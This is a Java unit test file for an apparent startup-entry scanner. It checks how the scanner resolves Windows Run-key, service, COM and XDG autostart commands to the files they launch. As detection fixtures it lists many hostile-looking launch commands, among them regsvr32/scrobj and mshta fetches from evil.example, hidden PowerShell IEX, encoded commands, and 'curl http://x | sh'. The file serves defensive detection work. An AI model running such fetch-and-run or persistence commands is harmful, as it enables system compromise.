package org.assay.startup.command;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;

import org.assay.model.Progress;
import org.assay.model.startup.StartupEntry;
import org.assay.model.startup.TargetOutcome;
import org.assay.startup.Catalogue;
import org.assay.startup.MemorySnapshot;
import org.assay.startup.StartupComparison;
import org.assay.startup.StartupScan;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class CommandResolverTest {

    private static final Catalogue CATALOGUE = Catalogue.standard();
    private static final String RUN = "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run";

    private static MemorySnapshot windows(String... files) {
        return new MemorySnapshot().withFolder("C:\\WINDOWS").withFolder("C:\\Program Files").withFolder("C:\\Users").with(files);
    }

    /** The targets of a Run value, each as its outcome and path. */
    private static List<String> run(MemorySnapshot snapshot, String command) {
        return targets(snapshot.value(RUN, "x", command), "run-hklm");
    }

    private static List<String> targets(MemorySnapshot snapshot, String id) {
        return StartupScan.run(CATALOGUE, snapshot, Progress.NONE).entries().stream().filter(entry -> entry.catalogueId().equals(id))
                .map(CommandResolverTest::shown).toList();
    }

    private static String shown(StartupEntry entry) {
        assertEquals(entry.outcome() == TargetOutcome.FOUND, entry.target().isPresent());
        return entry.outcome() + " " + entry.targetPath();
    }

    private static String found(String path) {
        return "FOUND " + path;
    }

    @Test
    void quotesHoldAProgramWithBlanks() {
        String program = "C:\\Program Files\\A B\\c.exe";
        assertEquals(List.of(found(program)), run(windows(program), "\"" + program + "\" /x \"d e\""));
    }

    @Test
    void anUnquotedPathIsCutWhereItsFileIs() {
        String program = "C:\\Program Files\\A B\\c.exe";
        assertEquals(List.of(found(program)), run(windows(program), program + " -s"));
    }

    @Test
    void aFileThatAnUnquotedPathAlsoMeansIsATargetToo() {
        String program = "C:\\Program Files\\A B\\c.exe";
        assertEquals(List.of(found("C:\\Program.exe"), found(program)), run(windows(program, "C:\\Program.exe"), program + " -s"));
    }

    @Test
    void theWholeUnquotedPathComesBeforeItsBeginnings() {
        String program = "C:\\Program Files\\A B\\c.exe";
        assertEquals(List.of(found(program), found("C:\\Program.exe")), run(windows(program, "C:\\Program.exe"), program));
    }

    @Test
    void rundllStartsItsLibrary() {
        String library = "C:\\x y\\z.dll";
        assertEquals(List.of(found(library)), run(windows(library, "C:\\WINDOWS\\system32\\rundll32.exe"),
                "%windir%\\system32\\rundll32.exe \"" + library + "\",Start"));
    }

    @Test
    void rundllOfTheControlPanelStartsTheApplet() {
        String applet = "C:\\WINDOWS\\System32\\sysdm.cpl";
        assertEquals(List.of(found(applet)), run(windows(applet, "C:\\WINDOWS\\System32\\shell32.dll"),
                "rundll32 shell32,Control_RunDLL \"sysdm.cpl\""));
    }

    @Test
    void aBareNameOfAClassCommandIsFoundInTheSystemFolder() {
        MemorySnapshot snapshot = windows("C:\\WINDOWS\\SYSTEM\\FILES32.VXD")
                .value("HKLM\\SOFTWARE\\Classes\\exefile\\shell\\open\\command", "", "FILES32.VXD \"%1\" %*");
        StartupEntry entry = StartupScan.run(CATALOGUE, snapshot, Progress.NONE).entries().getFirst();
        assertEquals("C:\\WINDOWS\\SYSTEM\\FILES32.VXD", entry.targetPath());
        assertEquals(false, entry.cleanDefault());
    }

    @Test
    void aShellWithAnArgumentStartsTwoPrograms() {
        MemorySnapshot snapshot = windows("C:\\WINDOWS\\explorer.exe", "C:\\x.exe")
                .value("HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon", "Shell", "explorer.exe C:\\x.exe");
        assertEquals(List.of(found("C:\\WINDOWS\\explorer.exe"), found("C:\\x.exe")), targets(snapshot, "winlogon-shell-hklm"));
    }

    @Test
    void userinitWithItsUsualCommaIsOneProgram() {
        String userinit = "C:\\WINDOWS\\system32\\userinit.exe";
        MemorySnapshot snapshot = windows(userinit)
                .value("HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon", "Userinit",
                        "C:\\Windows\\system32\\userinit.exe,");
        List<StartupEntry> entries = StartupScan.run(CATALOGUE, snapshot, Progress.NONE).entries();
        assertEquals(List.of(userinit), entries.stream().map(StartupEntry::targetPath).toList());
        assertTrue(entries.getFirst().cleanDefault());
    }

    @ParameterizedTest
    @CsvSource({"\\SystemRoot\\System32\\drivers\\a.sys, C:\\WINDOWS\\System32\\drivers\\a.sys",
        "System32\\drivers\\a.sys, C:\\WINDOWS\\System32\\drivers\\a.sys", "\\??\\C:\\a.sys, C:\\a.sys",
        "%SystemRoot%\\System32\\drivers\\a.sys, C:\\WINDOWS\\System32\\drivers\\a.sys", "\\\\?\\C:\\a.sys, C:\\a.sys"})
    void driversAreNamedInTheSystemsOwnWays(String command, String file) {
        MemorySnapshot snapshot = windows("C:\\WINDOWS\\System32\\drivers\\a.sys", "C:\\a.sys")
                .value("HKLM\\SYSTEM\\ControlSet001\\Services\\a", "ImagePath", command);
        assertEquals(List.of(found(file)), targets(snapshot, "services-imagepath"));
    }

    @Test
    void aChainOfHostsIsFollowedToItsScript() {
        String script = "C:\\a b.vbs";
        assertEquals(List.of(found(script)), run(windows(script), "cmd /c start \"\" /min wscript //B \"" + script + "\""));
    }

    @ParameterizedTest
    @ValueSource(strings = {"mshta vbscript:Execute(\"CreateObject(1)\")", "mshta.exe javascript:alert(1)",
        "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";alert(1)", "powershell -nop -w hidden -c \"IEX (New-Object X)\"",
        "python -c \"print(1)\"", "javascript:alert(1)", "powershell -c Start-Sleep 1; calc"})
    void aScriptInTheCommandIsInline(String command) {
        assertEquals(List.of("INLINE_SCRIPT "), run(windows(), command));
    }

    @Test
    void ashortNameIsResolvedWhenOneFileFits() {
        String program = "C:\\Program Files\\X\\Y.EXE";
        assertEquals(List.of(found(program)), run(windows(program), "C:\\PROGRA~1\\X\\Y.EXE"));
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {"PROGRA~1 | PROGRAM FILES | true", "PROGRA~1 | PROGRA~1 | true", "PROGRA~1 | PROGRAMS | false",
        "PROGR~12 | PROGRAM FILES | true", "PROG~1 | PROGRAM FILES | false", "AB~1 | A B | true", "LONGNA~1.HTM | LONG NAME.HTML | true",
        "LONGNA~1.HTM | LONG NAME.TXT | false", "LONGNA~1 | LONG NAME.TXT | false", "A_B~1.TXT | A+B.TXT | true"})
    void aShortNameFitsTheNamesItMayBeMadeFrom(String shortName, String name, boolean fits) {
        assertTrue(ShortName.isShort(shortName));
        assertEquals(fits, ShortName.mayBe(shortName, name));
    }

    @Test
    void namesWithoutATildeAndANumberAreNotShort() {
        assertEquals(List.of(), List.of("PROGRAM", "~1", "PROGRA~", "PROGRA~1X", "PROGRAM~1", "A B~1", "PROGRA~1.HTML", "AB~1.C.D").stream()
                .filter(ShortName::isShort).toList());
    }

    @Test
    void aShortNameIsAmbiguousWhenSeveralFilesFit() {
        assertEquals(List.of("AMBIGUOUS C:\\PROGRA~1\\X\\Y.EXE"),
                run(windows("C:\\Program Files\\X\\Y.EXE", "C:\\Program Files (x86)\\X\\Y.EXE"), "C:\\PROGRA~1\\X\\Y.EXE"));
    }

    @Test
    void aUsersClassTakesThePlaceOfTheMachines() {
        String id = "{11111111-2222-3333-4444-555555555555}";
        MemorySnapshot snapshot = windows("C:\\evil.dll", "C:\\WINDOWS\\System32\\good.dll")
                .value("HKCU\\Software\\Classes\\CLSID\\" + id + "\\InprocServer32", "", "C:\\evil.dll")
                .value("HKLM\\SOFTWARE\\Classes\\CLSID\\" + id + "\\InprocServer32", "", "good.dll")
                .value("HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\ShellServiceObjectDelayLoad", "x", id);
        assertEquals(List.of(found("C:\\evil.dll")), targets(snapshot, "ssodl-hklm"));
        StartupEntry shadow = StartupScan.run(CATALOGUE, snapshot, Progress.NONE).entries().stream()
                .filter(entry -> entry.catalogueId().equals("com-inprocserver32-hkcu")).findFirst().orElseThrow();
        assertTrue(shadow.shadowsMachine());
        String sentence = StartupComparison.alone(List.of(shadow), CATALOGUE).getFirst().sentence();
        assertTrue(sentence.contains(" (in place of the machine's class): "), sentence);
    }

    @Test
    void svchostStartsTheServicesLibrary() {
        String library = "C:\\WINDOWS\\System32\\evil.dll";
        String service = "HKLM\\SYSTEM\\ControlSet001\\Services\\Evil";
        MemorySnapshot snapshot = windows(library, "C:\\WINDOWS\\System32\\svchost.exe")
                .value(service, "ImagePath", "%SystemRoot%\\System32\\svchost.exe -k netsvcs")
                .value(service + "\\Parameters", "ServiceDll", "%SystemRoot%\\System32\\evil.dll");
        assertEquals(List.of(found(library)), targets(snapshot, "services-imagepath"));
        assertEquals(List.of(found(library)), targets(snapshot, "services-servicedll"));
    }

    @Test
    void anEncodedPowerShellCommandIsDecoded() {
        String text = Base64.getEncoder().encodeToString("C:\\Users\\x.ps1".getBytes(StandardCharsets.UTF_16LE));
        assertEquals(List.of(found("C:\\Users\\x.ps1")), run(windows("C:\\Users\\x.ps1"), "powershell.exe -NoP -W Hidden -enc " + text));
        assertEquals(List.of("UNPARSED "), run(windows(), "powershell -EncodedCommand A"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"wscript.exe C:\\x.vbs", "cscript //nologo //e:vbscript C:\\x.vbs", "mshta C:\\x.vbs",
        "powershell -ExecutionPolicy Bypass -File C:\\x.vbs arg", "powershell C:\\x.vbs", "powershell -Command \"& 'C:\\x.vbs'\"",
        "cmd.exe /q /c C:\\x.vbs", "cmd/cC:\\x.vbs", "cmd /c \"C:\\x.vbs\"", "cmd /c \"start C:\\x.vbs\"", "command.com /c C:\\x.vbs",
        "regsvr32 /s C:\\x.vbs", "start /min C:\\x.vbs", "explorer.exe /e,C:\\x.vbs", "hh C:\\x.vbs", "control.exe C:\\x.vbs",
        "forfiles /p c:\\ /c \"C:\\x.vbs\"", "pcalua -a C:\\x.vbs", "conhost C:\\x.vbs", "msiexec /q /i C:\\x.vbs", "java -jar C:\\x.vbs",
        "rundll32 shell32.dll,ShellExec_RunDLL C:\\x.vbs", "rundll32.exe url.dll,FileProtocolHandler C:\\x.vbs",
        "rundll32 advpack.dll,LaunchINFSection C:\\x.vbs,,1", "rundll32 setupapi,InstallHinfSection DefaultInstall 132 C:\\x.vbs",
        "wmic process call create \"C:\\x.vbs\"", "c^m^d /c C:\\x.vbs", "cmd /c (if exist a.b call C:\\x.vbs)", "python C:\\x.vbs",
        "pcalua.exe -a C:\\x.vbs -c /x", "forfiles.exe /p c:\\windows\\system32 /m notepad.exe /c \"cmd /c C:\\x.vbs\"",
        "conhost.exe --headless cmd /c C:\\x.vbs", "bitsadmin /SetNotifyCmdLine job C:\\x.vbs NULL", "control C:\\x.vbs,Title",
        "schtasks /create /tn x /tr C:\\x.vbs", "msiexec /iC:\\x.vbs", "msiexec /q /package C:\\x.vbs", "cmstp /s C:\\x.vbs",
        "installutil /logfile= /u C:\\x.vbs", "explorer /root,C:\\x.vbs", "%comspec% /c C:\\x.vbs", "mshta \"C:\\x.vbs\"",
        "\"C:\\x.vbs\" %1", "C:/x.vbs", "C:\\WINDOWS\\..\\.\\x.vbs", "c:\\X.VBS. ", "@C:\\x.vbs", "file:///C:/x.vbs", "\\x.vbs", "C:x.vbs",
        "C:\\x.vbs:stream.exe", "%systemdrive%\\x.vbs"})
    void hostsAndSpellingsLeadToTheSameFile(String command) {
        List<String> targets = run(windows("C:\\x.vbs"), command.replace("c^m^d", "cmd /c c^m^d"));
        assertTrue(targets.contains(found("C:\\x.vbs")), targets::toString);
    }

    @ParameterizedTest
    @ValueSource(strings = {"\\\\server\\share\\x.exe", "http://evil.example/x.exe", "mshta http://evil.example/x.hta",
        "regsvr32 /s /n /u /i:http://evil.example/x.sct scrobj.dll", "msiexec /i https://evil.example/x.msi", "\\\\?\\UNC\\server\\x.exe",
        "rundll32 \\\\server\\share\\x.dll,Run", "explorer http://evil.example/", "cmd /c \\\\server\\x.bat"})
    void whatIsElsewhereIsRemote(String command) {
        List<String> targets = run(windows(), command);
        assertTrue(targets.stream().anyMatch(target -> target.startsWith("REMOTE ")), targets::toString);
    }

    @Test
    void aFakeHostOutsideTheSystemFoldersIsATargetBesideItsPayload() {
        assertEquals(List.of(found("C:\\x.dll"), found("C:\\TEMP\\rundll32.exe")),
                run(windows("C:\\x.dll", "C:\\TEMP\\rundll32.exe"), "C:\\TEMP\\rundll32.exe C:\\x.dll,Run"));
    }

    @Test
    void aHostThatIsToldNothingCertainIsTheTargetItself() {
        String host = "C:\\WINDOWS\\System32\\wscript.exe";
        assertEquals(List.of(found(host)), run(windows(host), "\"%SystemRoot%\\System32\\WScript.exe\" \"%1\" %*"));
        assertEquals(List.of("MISSING cmd"), run(windows(), "cmd /c echo x"));
    }

    @Test
    void appPathsComeBeforeTheSearchedFolders() {
        MemorySnapshot snapshot = windows("C:\\Apps\\tool.exe", "C:\\WINDOWS\\tool.exe")
                .value("HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\App Paths\\tool.exe", "", "\"C:\\Apps\\tool.exe\"");
        assertEquals(List.of(found("C:\\Apps\\tool.exe")), run(snapshot, "tool /q"));
    }

    @Test
    void variablesAndTheSearchPathComeFromTheImage() {
        String environment = "HKLM\\SYSTEM\\ControlSet002\\Control\\Session Manager\\Environment";
        MemorySnapshot snapshot = windows("D:\\Tools\\t.cmd", "D:\\Home\\h.exe").number("HKLM\\SYSTEM\\Select", "Current", 2)
                .value(environment, "Path", "%SystemRoot%\\system32;%TOOLS%;D:\\Tools").value(environment, "TOOLS", "D:\\Home");
        assertEquals(List.of(found("D:\\Tools\\t.cmd")), run(snapshot, "t"));
        assertEquals(List.of(found("D:\\Home\\h.exe")), targets(snapshot.value(RUN + "Once", "y", "%tools%\\h.exe"), "runonce-hklm"));
    }

    @Test
    void theWindowsFolderComesFromTheRegistry() {
        MemorySnapshot snapshot = new MemorySnapshot().with("D:\\WINNT4\\system32\\x.exe", "D:\\WINNT4\\win.ini")
                .value("HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion", "SystemRoot", "D:\\WINNT4");
        assertEquals(List.of(found("D:\\WINNT4\\system32\\x.exe")), run(snapshot, "x.exe"));
    }

    @Test
    void aTreeWithoutADriveStandsForTheSystemDrive() {
        MemorySnapshot snapshot = new MemorySnapshot().with("/Windows/System32/x.exe");
        assertEquals(List.of(found("/Windows/System32/x.exe")), run(snapshot, "c:\\WINDOWS\\system32\\X.EXE /s"));
    }

    @Test
    void a32BitOriginLooksInItsOwnSystemFolderFirst() {
        String run = "HKLM\\SOFTWARE\\Wow6432Node\\Microsoft\\Windows\\CurrentVersion\\Run";
        MemorySnapshot snapshot = windows("C:\\WINDOWS\\System32\\x.dll", "C:\\WINDOWS\\SysWOW64\\x.dll")
                .value(run, "x", "rundll32.exe C:\\WINDOWS\\System32\\x.dll,Run");
        assertEquals(List.of(found("C:\\WINDOWS\\SysWOW64\\x.dll")), targets(snapshot, "run-hklm"));
    }

    @Test
    void the32BitViewIsLeftAsWindowsLeavesIt() {
        String run = "HKLM\\SOFTWARE\\Wow6432Node\\Microsoft\\Windows\\CurrentVersion\\Run";
        MemorySnapshot snapshot = windows("C:\\WINDOWS\\System32\\x.exe", "C:\\WINDOWS\\SysWOW64\\x.exe",
                "C:\\WINDOWS\\System32\\spool\\y.dll").value(run, "a", "C:\\WINDOWS\\Sysnative\\x.exe")
                .value(run, "b", "rundll32 C:\\WINDOWS\\System32\\spool\\y.dll,Run");
        assertEquals(List.of(found("C:\\WINDOWS\\System32\\x.exe"), found("C:\\WINDOWS\\System32\\spool\\y.dll")),
                targets(snapshot, "run-hklm"));
    }

    @Test
    void howAFileWasFoundIsTold() {
        String program = "C:\\Program Files\\A B\\c.exe";
        assertEquals(List.of(List.of(), List.of("The command's path has blanks and no quotes, so that this file answers to it, too.")),
                remarks(windows(program, "C:\\Program.exe"), program));
        assertEquals(List.of(List.of("The command names it without a path, and it was found where Windows looks.")),
                remarks(windows("C:\\WINDOWS\\System32\\x.exe"), "x /a"));
        String text = Base64.getEncoder().encodeToString("IEX (New-Object X)".getBytes(StandardCharsets.UTF_16LE));
        assertEquals(List.of(List.of("Its encoded command reads: IEX (New-Object X)")), remarks(windows(), "powershell -e " + text));
    }

    private static List<List<String>> remarks(MemorySnapshot snapshot, String command) {
        return StartupScan.run(CATALOGUE, snapshot.value(RUN, "x", command), Progress.NONE).entries().stream()
                .filter(entry -> entry.catalogueId().equals("run-hklm")).map(entry -> entry.details().remarks()).toList();
    }

    @Test
    void aProfileIsAnyUsersWhenTheKeyDoesNotSayWhose() {
        assertEquals(List.of(found("C:\\Users\\Ann\\x.exe")), run(windows("C:\\Users\\Ann\\x.exe"), "%USERPROFILE%\\x.exe"));
        assertEquals(List.of("AMBIGUOUS C:\\Users\\*\\x.exe"),
                run(windows("C:\\Users\\Ann\\x.exe", "C:\\Users\\Bob\\x.exe"), "%USERPROFILE%\\x.exe"));
    }

    @Test
    void namesThatDifferInCaseOnlyAreAmbiguousUnlessOneIsExact() {
        assertEquals(List.of("AMBIGUOUS C:\\x.exe"), run(windows("C:\\X.exe", "C:\\X.EXE"), "C:\\x.exe"));
        assertEquals(List.of(found("C:\\x.exe")), run(windows("C:\\x.exe", "C:\\X.EXE"), "C:\\x.exe"));
    }

    @Test
    void whatIsNotThereIsMissingAndWhatCannotBeANameIsUnparsed() {
        assertEquals(List.of("MISSING C:\\gone dir\\gone.exe"), run(windows(), "C:\\gone dir\\gone.exe /x"));
        assertEquals(List.of("MISSING RUNDLL.VBS"), run(windows(), "RUNDLL.VBS"));
        assertEquals(List.of("UNPARSED %NOSUCH%\\x.exe"), run(windows(), "%NOSUCH%\\x.exe"));
        assertEquals(List.of("NONE "), run(windows(), "\"%1\" %*"));
        assertEquals(List.of("NONE C:\\Program Files"), run(windows(), "C:\\Program Files"));
    }

    @Test
    void withoutAnyFilesNothingIsMissing() {
        assertEquals(List.of("NONE C:\\x.exe"), run(new MemorySnapshot(), "C:\\x.exe"));
        assertEquals(List.of("INLINE_SCRIPT "), run(new MemorySnapshot(), "mshta javascript:x"));
    }

    @Test
    void tooManyLevelsOfHostsAreNotUnderstood() {
        assertEquals(List.of("UNPARSED"), run(windows(), "cmd /c ".repeat(20) + "x.exe").stream().map(text -> text.split(" ")[0]).toList());
    }

    @Test
    void unixCommandsAreFollowedThroughTheirShells() {
        MemorySnapshot snapshot = new MemorySnapshot().withFolder("/etc").with("/opt/x y", "/usr/bin/env", "/usr/bin/sh")
                .withText("/etc/xdg/autostart/a.desktop", "[Desktop Entry]\nExec=env A=1 sh -c '\"/opt/x y\" --quiet'\n")
                .withText("/etc/xdg/autostart/b.desktop", "[Desktop Entry]\nExec=sh -c 'curl http://x | sh'\nHidden=true\n")
                .withText("/etc/xdg/autostart/c.desktop", "[Desktop Entry]\nExec=/bin/sh\n");
        assertEquals(List.of(found("/usr/bin/env"), found("/usr/bin/sh"), found("/opt/x y"), found("/usr/bin/sh"), "INLINE_SCRIPT ",
                found("/usr/bin/sh")), targets(snapshot, "lx-xdg-system"));
    }
}
